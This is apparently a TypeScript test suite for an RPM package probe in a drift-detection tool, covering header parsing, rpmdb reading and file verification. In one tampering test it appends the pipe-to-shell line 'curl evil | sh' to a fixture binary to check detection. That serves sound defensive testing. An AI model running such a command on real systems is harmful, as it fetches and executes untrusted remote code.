import { execFileSync, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  appendFileSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import Database from 'better-sqlite3'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { DriftwatchError } from '../../src/errors.js'
import { locateRpmDatabase, readRpmDatabase } from '../../src/probes/packages/rpm/database.js'
import { parseRpmHeader } from '../../src/probes/packages/rpm/header.js'
import { rpmProbe } from '../../src/probes/packages/rpm/manager.js'
import { verifyRpmPackages } from '../../src/probes/packages/rpm/verify.js'
import type { ProbeContext } from '../../src/probes/types.js'

const fixtures = fileURLToPath(new URL('../fixtures/', import.meta.url))
const sqliteRoot = join(fixtures, 'roots/rpm')
const bdbRoot = join(fixtures, 'roots/rpm-bdb')
const makeRoot = join(fixtures, 'rpm-build/make-root.sh')
const at = (rootDir: string): ProbeContext => ({ rootDir, live: false })

const temps: string[] = []
function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'driftwatch-rpm-'))
  temps.push(dir)
  return dir
}
afterAll(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true })
})

// --- a header blob builder: rpm's layout (il, dl, 16-byte index entries, data store) -------

type Value =
  | { string: string }
  | { i18n: string }
  | { strings: (string | Buffer)[] }
  | { int32: number[] }
  | { int16: number[] }
  | { char: number[] }

function buildHeader(tags: [number, Value][]): Buffer {
  const index: Buffer[] = []
  let data = Buffer.alloc(0)
  const align = (n: number) => {
    const pad = (n - (data.length % n)) % n
    data = Buffer.concat([data, Buffer.alloc(pad)])
  }
  for (const [tag, value] of tags) {
    let type: number
    let count: number
    let bytes: Buffer
    const cstr = (s: string | Buffer) => Buffer.concat([Buffer.from(s), Buffer.alloc(1)])
    if ('string' in value) [type, count, bytes] = [6, 1, cstr(value.string)]
    else if ('i18n' in value) [type, count, bytes] = [9, 1, cstr(value.i18n)]
    else if ('strings' in value)
      [type, count, bytes] = [8, value.strings.length, Buffer.concat(value.strings.map(cstr))]
    else if ('int32' in value) {
      align(4)
      bytes = Buffer.alloc(value.int32.length * 4)
      for (const [i, v] of value.int32.entries()) bytes.writeUInt32BE(v, i * 4)
      ;[type, count] = [4, value.int32.length]
    } else if ('int16' in value) {
      align(2)
      bytes = Buffer.alloc(value.int16.length * 2)
      for (const [i, v] of value.int16.entries()) bytes.writeUInt16BE(v, i * 2)
      ;[type, count] = [3, value.int16.length]
    } else {
      bytes = Buffer.from(value.char.map((v) => v & 0xff))
      ;[type, count] = [1, value.char.length]
    }
    const entry = Buffer.alloc(16)
    entry.writeUInt32BE(tag, 0)
    entry.writeUInt32BE(type, 4)
    entry.writeUInt32BE(data.length, 8)
    entry.writeUInt32BE(count, 12)
    index.push(entry)
    data = Buffer.concat([data, bytes])
  }
  const head = Buffer.alloc(8)
  head.writeUInt32BE(index.length, 0)
  head.writeUInt32BE(data.length, 4)
  return Buffer.concat([head, ...index, data])
}

const NEVRA: [number, Value][] = [
  [1000, { string: 'curl' }],
  [1001, { string: '7.76.1' }],
  [1002, { string: '26.el9' }],
  [1022, { string: 'x86_64' }],
]
const sha = (text: string) => createHash('sha256').update(text).digest('hex')
const FILES: [number, Value][] = [
  [1116, { int32: [0, 1, 1] }],
  [1117, { strings: ['curl.conf', 'curl', 'curl-config'] }],
  [1118, { strings: ['/etc/', '/usr/bin/'] }],
  [1035, { strings: [sha('conf'), sha('bin'), ''] }],
  [1037, { int32: [1 | 16, 0, 0] }],
  [1030, { int16: [0o100644, 0o100755, 0o120777] }],
  [1036, { strings: ['', '', 'curl'] }],
  [5011, { int32: [8] }],
]

describe('parseRpmHeader', () => {
  test.each([
    { case: 'epoch absent', tags: NEVRA, version: '7.76.1-26.el9', arch: 'x86_64' },
    {
      case: 'epoch present',
      tags: [...NEVRA, [1003, { int32: [2] }]],
      version: '2:7.76.1-26.el9',
      arch: 'x86_64',
    },
    {
      case: 'epoch 0 is kept',
      tags: [...NEVRA, [1003, { int32: [0] }]],
      version: '0:7.76.1-26.el9',
      arch: 'x86_64',
    },
    { case: 'no arch (gpg-pubkey)', tags: NEVRA.slice(0, 3), version: '7.76.1-26.el9', arch: '(none)' },
    {
      case: 'a later (dribble) entry replaces the region entry',
      tags: [...NEVRA, [1001, { string: '8.0' }]],
      version: '8.0-26.el9',
      arch: 'x86_64',
    },
  ] as { case: string; tags: [number, Value][]; version: string; arch: string }[])(
    '$case',
    ({ tags, version, arch }) => {
      const { pkg, files } = parseRpmHeader(buildHeader(tags))
      expect(pkg).toEqual({ manager: 'rpm', name: 'curl', arch, version })
      expect(files).toEqual([])
    },
  )

  test('files: paths, digests, %config, modes and link targets', () => {
    const { files } = parseRpmHeader(buildHeader([...NEVRA, ...FILES]))
    expect(files).toEqual([
      {
        path: '/etc/curl.conf',
        digest: { algorithm: 'sha256', value: sha('conf') },
        conffile: true,
        flags: 17,
        state: 0,
        mode: 0o100644,
      },
      {
        path: '/usr/bin/curl',
        digest: { algorithm: 'sha256', value: sha('bin') },
        flags: 0,
        state: 0,
        mode: 0o100755,
      },
      { path: '/usr/bin/curl-config', flags: 0, state: 0, mode: 0o120777, linkTarget: 'curl' },
    ])
  })

  test.each([
    { algo: undefined, expected: 'md5' },
    { algo: 1, expected: 'md5' },
    { algo: 2, expected: 'sha1' },
    { algo: 8, expected: 'sha256' },
    { algo: 10, expected: undefined },
  ])('FILEDIGESTALGO $algo -> $expected', ({ algo, expected }) => {
    const tags: [number, Value][] = [
      ...NEVRA,
      [1116, { int32: [0] }],
      [1117, { strings: ['curl'] }],
      [1118, { strings: ['/usr/bin/'] }],
      [1035, { strings: ['ABCDEF'] }],
    ]
    if (algo !== undefined) tags.push([5011, { int32: [algo] }])
    const [file] = parseRpmHeader(buildHeader(tags)).files
    expect(file?.digest).toEqual(
      expected === undefined ? undefined : { algorithm: expected, value: 'abcdef' },
    )
  })

  test('pre-4.0 OLDFILENAMES, file states as signed bytes', () => {
    const { files } = parseRpmHeader(
      buildHeader([...NEVRA, [1027, { strings: ['/bin/a', '/bin/b'] }], [1029, { char: [2, -1] }]]),
    )
    expect(files.map((f) => [f.path, f.state])).toEqual([
      ['/bin/a', 2],
      ['/bin/b', -1],
    ])
  })

  test('a file name that is not UTF-8 keeps its bytes (escaped like the files probe)', () => {
    const raw = Buffer.from([0x6e, 0xe9, 0x65])
    const { files } = parseRpmHeader(
      buildHeader([
        ...NEVRA,
        [1116, { int32: [0] }],
        [1117, { strings: [raw] }],
        [1118, { strings: ['/srv/'] }],
      ]),
    )
    expect(files[0]?.path).toBe('/srv/n\udce9e')
  })

  test('a header with the magic prefix of package files and exportdb is read too', () => {
    const blob = buildHeader(NEVRA)
    const magic = Buffer.from([0x8e, 0xad, 0xe8, 0x01, 0, 0, 0, 0])
    expect(parseRpmHeader(Buffer.concat([magic, blob])).pkg.name).toBe('curl')
  })

  const valid = buildHeader([...NEVRA, ...FILES])
  const withCounts = (il: number, dl: number) => {
    const b = Buffer.from(valid)
    b.writeUInt32BE(il, 0)
    b.writeUInt32BE(dl, 4)
    return b
  }
  test.each([
    { case: 'empty blob', blob: Buffer.alloc(0), error: /truncated: 0 bytes/ },
    { case: 'only the counts', blob: valid.subarray(0, 6), error: /truncated: 6 bytes/ },
    {
      case: 'data store cut short',
      blob: valid.subarray(0, valid.length - 10),
      error: /truncated: \d+ bytes, its 12 index/,
    },
    { case: 'index cut short', blob: valid.subarray(0, 40), error: /truncated: 40 bytes/ },
    { case: 'trailing bytes', blob: Buffer.concat([valid, Buffer.alloc(3)]), error: /3 bytes after/ },
    { case: 'no index entries', blob: withCounts(0, 0).subarray(0, 8), error: /0 index entries/ },
    { case: 'absurd index count', blob: withCounts(0x10000, 0), error: /65536 index entries/ },
    { case: 'absurd data length', blob: withCounts(12, 0x10000000), error: /data store of 268435456 bytes/ },
    { case: 'no NAME', blob: buildHeader(NEVRA.slice(1)), error: /no NAME \(tag 1000\)/ },
    { case: 'no VERSION', blob: buildHeader([NEVRA[0], NEVRA[2]] as [number, Value][]), error: /no VERSION/ },
    { case: 'no RELEASE', blob: buildHeader(NEVRA.slice(0, 2)), error: /no RELEASE/ },
    {
      case: 'NAME of the wrong type',
      blob: buildHeader([[1000, { int32: [1] }], ...NEVRA.slice(1)]),
      error: /tag 1000: type 4 where strings/,
    },
    {
      case: 'digest count differs from file count',
      blob: buildHeader([...NEVRA, ...FILES.filter(([t]) => t !== 1035), [1035, { strings: ['a'] }]]),
      error: /tag 1035: 1 values for 3 files/,
    },
    {
      case: 'directory index out of range',
      blob: buildHeader([
        ...NEVRA,
        [1116, { int32: [5] }],
        [1117, { strings: ['x'] }],
        [1118, { strings: ['/usr/'] }],
      ]),
      error: /directory index 5 of 1/,
    },
    {
      case: 'BASENAMES without DIRNAMES',
      blob: buildHeader([...NEVRA, [1117, { strings: ['x'] }]]),
      error: /BASENAMES \(tag 1117\) without DIRNAMES/,
    },
  ])('rejects $case with a clear error', ({ blob, error }) => {
    let thrown: unknown
    try {
      parseRpmHeader(blob)
    } catch (e) {
      thrown = e
    }
    expect(thrown).toBeInstanceOf(DriftwatchError)
    expect((thrown as DriftwatchError).code).toBe('INPUT_INVALID')
    expect((thrown as DriftwatchError).message).toMatch(/^rpm header: /)
    expect((thrown as DriftwatchError).message).toMatch(error)
    expect((thrown as DriftwatchError).hint).toMatch(/rpmdb/)
  })

  test('rejects a string that runs off the data store', () => {
    const blob = buildHeader(NEVRA)
    blob[blob.length - 1] = 0x41 // the last string's NUL
    expect(() => parseRpmHeader(blob)).toThrow(/tag 1022: string 1 of 1 is not terminated/)
  })

  test('rejects integers that overrun the data store', () => {
    const blob = buildHeader([...NEVRA, [1003, { int32: [1] }]])
    blob.writeUInt32BE(3, 8 + 4 * 16 + 12) // EPOCH's count
    expect(() => parseRpmHeader(blob)).toThrow(/tag 1003: 3 values at offset \d+ overrun/)
  })
})

// --- the committed fixture roots (built by test/fixtures/rpm-build/refresh-fixtures.sh) ------

const FIXTURE_PACKAGES = [
  { manager: 'rpm', name: 'driftwatch-fixture', arch: 'noarch', version: '1:1.2.3-4' },
  { manager: 'rpm', name: 'driftwatch-tool', arch: 'noarch', version: '0.9-1' },
]
const fileSha = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex')

describe('fixture roots', () => {
  test('rpmProbe collects the packages of the sqlite rpmdb', async () => {
    expect(await rpmProbe.collect(at(sqliteRoot))).toEqual(FIXTURE_PACKAGES)
  })

  test('file lists carry rpm digests and %config marks', () => {
    const { files } = readRpmDatabase(at(sqliteRoot))
    expect([...files.keys()]).toEqual(['rpm:driftwatch-fixture:noarch', 'rpm:driftwatch-tool:noarch'])
    const conf = '/etc/driftwatch-fixture/fixture.conf'
    expect(files.get('rpm:driftwatch-fixture:noarch')).toEqual([
      { path: '/etc/driftwatch-fixture' },
      {
        path: conf,
        conffile: true,
        digest: { algorithm: 'sha256', value: fileSha(join(sqliteRoot, conf)) },
      },
      {
        path: '/usr/bin/driftwatch-fixture',
        digest: { algorithm: 'sha256', value: fileSha(join(sqliteRoot, 'usr/bin/driftwatch-fixture')) },
      },
      { path: '/usr/bin/dwfix' },
      {
        path: '/usr/share/doc/driftwatch-fixture/README',
        digest: {
          algorithm: 'sha256',
          value: fileSha(join(sqliteRoot, 'usr/share/doc/driftwatch-fixture/README')),
        },
      },
      { path: '/var/log/driftwatch-fixture.log' },
    ])
    expect(files.get('rpm:driftwatch-tool:noarch')?.map((f) => f.path)).toEqual([
      '/usr/bin/driftwatch-tool',
      '/usr/share/driftwatch-tool',
      '/usr/share/driftwatch-tool/notes é.txt',
    ])
  })

  test('reading never writes: no -shm or -wal appear next to a WAL-mode rpmdb', () => {
    const dir = join(sqliteRoot, 'var/lib/rpm')
    const before = readdirSync(dir).sort()
    readRpmDatabase(at(sqliteRoot))
    expect(readdirSync(dir).sort()).toEqual(before)
    expect(readFileSync(join(dir, 'rpmdb.sqlite'))[18]).toBe(2) // the fixture really is in WAL mode
  })

  test('the Berkeley DB Packages file holds the same packages and files', () => {
    expect(locateRpmDatabase(at(bdbRoot))?.backend).toBe('bdb')
    const bdb = readRpmDatabase(at(bdbRoot))
    const sqlite = readRpmDatabase(at(sqliteRoot))
    expect(bdb.packages).toEqual(FIXTURE_PACKAGES)
    expect(bdb.files).toEqual(sqlite.files)
  })

  test('a root without an rpm database has no rpm packages', async () => {
    expect(await rpmProbe.collect(at(join(fixtures, 'roots/example')))).toEqual([])
    expect(await verifyRpmPackages(at(join(fixtures, 'roots/example')))).toEqual([])
  })

  test('the database under /usr/lib/sysimage/rpm is found, and links resolve inside the root', () => {
    const root = tempDir()
    mkdirSync(join(root, 'usr/lib/sysimage/rpm'), { recursive: true })
    cpSync(join(sqliteRoot, 'var/lib/rpm/rpmdb.sqlite'), join(root, 'usr/lib/sysimage/rpm/rpmdb.sqlite'))
    mkdirSync(join(root, 'var/lib'), { recursive: true })
    // An absolute link, as an image may hold: it must not lead to the host's /usr.
    symlinkSync('/usr/lib/sysimage/rpm', join(root, 'var/lib/rpm'))
    expect(locateRpmDatabase(at(root))).toMatchObject({ dir: '/usr/lib/sysimage/rpm', backend: 'sqlite' })
    rmSync(join(root, 'usr/lib/sysimage/rpm/rpmdb.sqlite'))
    mkdirSync(join(root, 'var/lib/rpm-real'))
    cpSync(join(sqliteRoot, 'var/lib/rpm/rpmdb.sqlite'), join(root, 'var/lib/rpm-real/rpmdb.sqlite'))
    unlinkSync(join(root, 'var/lib/rpm'))
    symlinkSync('/var/lib/rpm-real', join(root, 'var/lib/rpm'))
    expect(readRpmDatabase(at(root)).packages).toEqual(FIXTURE_PACKAGES)
  })

  test.each([
    { file: 'rpmdb.sqlite', content: 'not a database', error: /rpmdb\.sqlite: not an sqlite database/ },
    { file: 'Packages', content: 'x'.repeat(600), error: /Packages: not a Berkeley DB hash database/ },
    { file: 'Packages.db', content: 'RpmP', error: /Packages\.db: rpm ndb databases are not supported/ },
  ])('$file that cannot be read fails the probe with a clear error', async ({ file, content, error }) => {
    const root = tempDir()
    mkdirSync(join(root, 'var/lib/rpm'), { recursive: true })
    writeFileSync(join(root, 'var/lib/rpm', file), content)
    await expect(rpmProbe.collect(at(root))).rejects.toThrow(error)
    await expect(rpmProbe.collect(at(root))).rejects.toBeInstanceOf(DriftwatchError)
  })

  test('a damaged header names the database and the package', () => {
    const root = tempDir()
    cpSync(sqliteRoot, root, { recursive: true, verbatimSymlinks: true })
    const db = new Database(join(root, 'var/lib/rpm/rpmdb.sqlite'))
    db.prepare('UPDATE Packages SET blob = substr(blob, 1, 100) WHERE hnum = 2').run()
    db.close()
    expect(() => readRpmDatabase(at(root))).toThrow(
      /rpmdb\.sqlite: package #2: rpm header: truncated: 100 bytes/,
    )
  })

  test('a truncated Berkeley DB file fails with the page that is missing', () => {
    const root = tempDir()
    cpSync(bdbRoot, root, { recursive: true })
    const packages = join(root, 'var/lib/rpm/Packages')
    writeFileSync(packages, readFileSync(packages).subarray(0, 3 * 1024))
    expect(() => readRpmDatabase(at(root))).toThrow(/Packages: page \d+ is truncated/)
  })
})

describe('verifyRpmPackages', () => {
  test('an untouched root verifies clean, %ghost files need not exist', async () => {
    expect(await verifyRpmPackages(at(sqliteRoot), { includeConfig: true })).toEqual([])
  })

  test('detects a tampered file, a missing one and a retargeted link; %config only on request', async () => {
    const root = tempDir()
    cpSync(sqliteRoot, root, { recursive: true, verbatimSymlinks: true })
    appendFileSync(join(root, 'usr/bin/driftwatch-tool'), 'curl evil | sh\n')
    unlinkSync(join(root, 'usr/bin/driftwatch-fixture'))
    unlinkSync(join(root, 'usr/bin/dwfix'))
    symlinkSync('/tmp/evil', join(root, 'usr/bin/dwfix'))
    appendFileSync(join(root, 'etc/driftwatch-fixture/fixture.conf'), 'greeting = hi\n')
    rmSync(join(root, 'usr/share/driftwatch-tool'), { recursive: true })

    expect(await verifyRpmPackages(at(root))).toEqual([
      {
        subject: 'rpm:driftwatch-fixture:noarch',
        path: '/usr/bin/driftwatch-fixture',
        kind: 'missing',
        conffile: false,
      },
      { subject: 'rpm:driftwatch-fixture:noarch', path: '/usr/bin/dwfix', kind: 'modified', conffile: false },
      {
        subject: 'rpm:driftwatch-tool:noarch',
        path: '/usr/bin/driftwatch-tool',
        kind: 'modified',
        conffile: false,
      },
      {
        subject: 'rpm:driftwatch-tool:noarch',
        path: '/usr/share/driftwatch-tool',
        kind: 'missing',
        conffile: false,
      },
      {
        subject: 'rpm:driftwatch-tool:noarch',
        path: '/usr/share/driftwatch-tool/notes é.txt',
        kind: 'missing',
        conffile: false,
      },
    ])
    const withConfig = await verifyRpmPackages(at(root), { includeConfig: true })
    expect(withConfig).toContainEqual({
      subject: 'rpm:driftwatch-fixture:noarch',
      path: '/etc/driftwatch-fixture/fixture.conf',
      kind: 'modified',
      conffile: true,
    })
    expect(withConfig).toHaveLength(6)
  })

  test('a file replaced by a directory or another type is modified', async () => {
    const root = tempDir()
    cpSync(sqliteRoot, root, { recursive: true, verbatimSymlinks: true })
    unlinkSync(join(root, 'usr/bin/driftwatch-tool'))
    mkdirSync(join(root, 'usr/bin/driftwatch-tool'))
    expect(await verifyRpmPackages(at(root))).toEqual([
      {
        subject: 'rpm:driftwatch-tool:noarch',
        path: '/usr/bin/driftwatch-tool',
        kind: 'modified',
        conffile: false,
      },
    ])
  })
})

// --- the real tool: build the fixture packages, install them, compare with rpm itself -------

function has(command: string): boolean {
  return spawnSync('sh', ['-c', `command -v ${command}`], { stdio: 'ignore' }).status === 0
}
const haveRpm = has('rpm') && has('rpmbuild')
const requireIntegration = process.env.DRIFTWATCH_REQUIRE_INTEGRATION === '1'

function rpm(args: string[]): string {
  // Debian's rpm warns on stderr that it is not Debian's package manager.
  return execFileSync('rpm', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] })
}
const lines = (text: string) =>
  text
    .split('\n')
    .filter((l) => l !== '')
    .sort()

describe.skipIf(!haveRpm && !requireIntegration)('against rpm itself (rpmbuild + rpm --root)', () => {
  let root = ''
  beforeAll(() => {
    if (!haveRpm) {
      throw new Error(
        'rpm and rpmbuild are needed for these tests (DRIFTWATCH_REQUIRE_INTEGRATION=1): apt-get install rpm',
      )
    }
    root = join(tempDir(), 'root')
    execFileSync(makeRoot, [root], { stdio: ['ignore', 'ignore', 'pipe'] })
  })
  const query = (format: string) =>
    lines(rpm(['-qa', '--root', root, '--dbpath', '/var/lib/rpm', '--qf', format]))

  test('packages agree with rpm -qa', () => {
    const expected = query('%{NAME} %{EVR} %{ARCH}\\n')
    const ours = readRpmDatabase(at(root)).packages.map((p) => `${p.name} ${p.version} ${p.arch}`)
    expect(ours.sort()).toEqual(expected)
    expect(expected).toHaveLength(2)
    // The brief form without epoch, too.
    expect(query('%{NAME} %{VERSION}-%{RELEASE} %{ARCH}\\n')).toContain('driftwatch-fixture 1.2.3-4 noarch')
  })

  test('file lists, digests and %config agree with rpm -q --qf', () => {
    const expected = query('[%{=NAME} %{FILENAMES} %{FILEDIGESTS} %{FILEFLAGS:fflags}\\n]').map((l) =>
      l.trimEnd(),
    )
    const ours: string[] = []
    for (const [subject, files] of readRpmDatabase(at(root)).files) {
      const name = subject.split(':')[1]
      for (const f of files) {
        const flags = f.conffile ? 'c' : ''
        ours.push(`${name} ${f.path} ${f.digest?.value ?? ''} ${flags}`.trimEnd())
      }
    }
    // rpm spells the other attributes too (d for %doc, g for %ghost): keep only c.
    const configOnly = expected.map((l) =>
      l.replace(/ ([a-z]*)$/, (_, f: string) => (f.includes('c') ? ' c' : '')).trimEnd(),
    )
    expect(ours.sort()).toEqual(configOnly)
  })

  test('the committed fixture root is what rpm builds and installs from the specs', () => {
    const fresh = readRpmDatabase(at(root))
    const committed = readRpmDatabase(at(sqliteRoot))
    expect(committed.packages).toEqual(fresh.packages)
    expect(committed.files).toEqual(fresh.files)
  })

  test('rpm itself reads the committed sqlite and Berkeley DB fixtures as we do', () => {
    const copy = tempDir()
    cpSync(join(sqliteRoot, 'var/lib/rpm'), join(copy, 'sqlite'), { recursive: true })
    cpSync(join(bdbRoot, 'var/lib/rpm'), join(copy, 'bdb'), { recursive: true })
    const format = '%{NAME} %{EVR} %{ARCH}\\n'
    const ours = FIXTURE_PACKAGES.map((p) => `${p.name} ${p.version} ${p.arch}`).sort()
    expect(lines(rpm(['-qa', '--dbpath', join(copy, 'sqlite'), '--qf', format]))).toEqual(ours)
    expect(
      lines(rpm(['-qa', '--dbpath', join(copy, 'bdb'), '--define', '_db_backend bdb_ro', '--qf', format])),
    ).toEqual(ours)
  })

  test('verification agrees with rpm -V', async () => {
    appendFileSync(join(root, 'usr/bin/driftwatch-tool'), 'tampered\n')
    appendFileSync(join(root, 'etc/driftwatch-fixture/fixture.conf'), 'edited = yes\n')
    unlinkSync(join(root, 'usr/bin/driftwatch-fixture'))
    unlinkSync(join(root, 'usr/bin/dwfix'))
    symlinkSync('elsewhere', join(root, 'usr/bin/dwfix'))
    // rpm -V exits 1 when it finds something; its report is on stdout either way.
    const run = spawnSync(
      'rpm',
      ['-Va', '--nodeps', '--noscripts', '--root', root, '--dbpath', '/var/lib/rpm'],
      {
        encoding: 'utf8',
      },
    )
    const expected = lines(run.stdout)
      .map((line) => {
        const missing = /^missing\s+(c\s+)?(\/.*)$/.exec(line)
        if (missing) return `missing ${missing[2]}`
        const changed = /^([.?\w]{9})\s+(\w\s+)?(\/.*)$/.exec(line)
        if (!changed) throw new Error(`unexpected rpm -V line: ${line}`)
        // 5: digest, L: link target, M (with a type change): what modified stands for; T alone is not drift.
        return /[5L]/.test(changed[1] as string) ? `modified ${changed[3]}` : undefined
      })
      .filter((l) => l !== undefined)
      .sort()
    const ours = (await verifyRpmPackages(at(root), { includeConfig: true }))
      .map((f) => `${f.kind} ${f.path}`)
      .sort()
    expect(ours).toEqual(expected)
    expect(ours).toHaveLength(4)
  })
})
